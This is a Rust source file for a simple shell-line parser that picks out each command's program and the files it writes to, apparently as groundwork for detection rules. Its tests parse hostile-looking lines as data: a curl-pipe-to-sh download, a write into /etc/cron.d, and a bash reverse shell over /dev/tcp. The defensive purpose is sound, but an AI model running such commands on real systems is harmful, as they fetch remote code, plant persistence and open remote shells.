//! Simple commands of a shell line, for stories of which only the text is known.
//!
//! Not a shell: quotes are honoured, nothing is expanded. Enough for rules that ask what program is run with what
//! arguments and which file is written.

/// Most commands told of one line.
const MOST: usize = 64;
/// What runs its arguments as a command.
const WRAPPERS: &[&str] = &[
    "sudo", "doas", "nohup", "env", "exec", "command", "time", "nice", "setsid", "builtin",
];

/// A simple command.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(super) struct Simple<'a> {
    /// As written.
    pub(super) text: &'a str,
    /// The program's name or path.
    pub(super) program: &'a str,
    /// Files that its output goes to.
    pub(super) writes: Vec<&'a str>,
}

/// The simple commands of `line`, in order.
pub(super) fn commands(line: &str) -> Vec<Simple<'_>> {
    let mut found = Vec::new();
    for piece in pieces(line) {
        if let Some(simple) = simple(piece.trim()) {
            found.push(simple);
        }
        if found.len() == MOST {
            break;
        }
    }
    found
}

/// Cut at `;`, `|`, `&` and line ends outside quotes; `>&`, `&>` and `2>&1` are no ends.
fn pieces(line: &str) -> Vec<&str> {
    let (mut pieces, mut start, mut quote) = (Vec::new(), 0, None);
    let bytes = line.as_bytes();
    let mut at = 0;
    while at < bytes.len() {
        let byte = bytes[at];
        match (quote, byte) {
            (None | Some(b'"'), b'\\') => at += 1,
            (None, b'\'' | b'"') => quote = Some(byte),
            (Some(open), _) if open == byte => quote = None,
            (None, b';' | b'\n' | b'|') => {
                pieces.push(&line[start..at]);
                start = at + 1;
            }
            (None, b'&') => {
                let before = at.checked_sub(1).map(|before| bytes[before]);
                let redirects = before == Some(b'>') || bytes.get(at + 1) == Some(&b'>');
                if !redirects {
                    pieces.push(&line[start..at]);
                    start = at + 1;
                }
            }
            _ => {}
        }
        at += 1;
    }
    pieces.push(&line[start..]);
    pieces
}

fn simple(piece: &str) -> Option<Simple<'_>> {
    let words = words(piece);
    let mut writes = Vec::new();
    let mut program = "";
    let mut skip_value = false;
    let mut is_target = false;
    for word in words {
        if is_target {
            writes.push(unquoted(word));
            is_target = false;
            continue;
        }
        let redirect = word.trim_start_matches(|c: char| c.is_ascii_digit() || c == '&');
        if let Some(target) = redirect.strip_prefix('>') {
            let target = target.trim_start_matches(['>', '|']);
            if target.is_empty() {
                is_target = true;
            } else if !target.starts_with('&') {
                writes.push(unquoted(target));
            }
            continue;
        }
        if !program.is_empty() || skip_value {
            skip_value = false;
            continue;
        }
        let plain = unquoted(word);
        let is_assignment = plain.split_once('=').is_some_and(|(name, _)| {
            !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
        });
        // `sudo -u NAME program`.
        skip_value = matches!(plain, "-u" | "-g" | "-n");
        if is_assignment || plain.starts_with('-') || WRAPPERS.contains(&plain) {
            continue;
        }
        program = plain;
    }
    (!program.is_empty()).then_some(Simple {
        text: piece,
        program,
        writes,
    })
}

fn words(piece: &str) -> impl Iterator<Item = &str> {
    let mut rest = piece.trim_start_matches(['(', '{', ' ']);
    std::iter::from_fn(move || {
        rest = rest.trim_start();
        if rest.is_empty() {
            return None;
        }
        let mut quote = None;
        let mut end = rest.len();
        let mut is_escaped = false;
        for (at, c) in rest.char_indices() {
            match (quote, c) {
                _ if is_escaped => is_escaped = false,
                (None | Some('"'), '\\') => is_escaped = true,
                (None, '\'' | '"') => quote = Some(c),
                (Some(open), _) if open == c => quote = None,
                (None, c) if c.is_whitespace() => {
                    end = at;
                    break;
                }
                _ => {}
            }
        }
        let (word, after) = rest.split_at(end);
        rest = after;
        Some(word)
    })
}

fn unquoted(word: &str) -> &str {
    word.trim_matches(['"', '\''])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(line: &str) -> Vec<(&str, Vec<&str>)> {
        let commands = commands(line).into_iter();
        commands.map(|one| (one.program, one.writes)).collect()
    }

    #[test]
    fn programs_and_what_they_write() {
        assert_eq!(
            check("cd /tmp && curl -s http://x/a|sh; id > /tmp/o 2>&1 &"),
            [
                ("cd", vec![]),
                ("curl", vec![]),
                ("sh", vec![]),
                ("id", vec!["/tmp/o"])
            ]
        );
        assert_eq!(
            check(r#"echo "a; b | c" >>"/etc/cron.d/x""#),
            [("echo", vec!["/etc/cron.d/x"])]
        );
        assert_eq!(
            check("A=1 sudo -u www-data /usr/bin/id -a"),
            [("/usr/bin/id", vec![])]
        );
        assert_eq!(check("bash -i >& /dev/tcp/192.0.2.1/44 0>&1").len(), 1);
        assert_eq!(check(";;  \n|&"), []);
        assert_eq!(check("é\\"), [("é\\", vec![])]);
    }
}
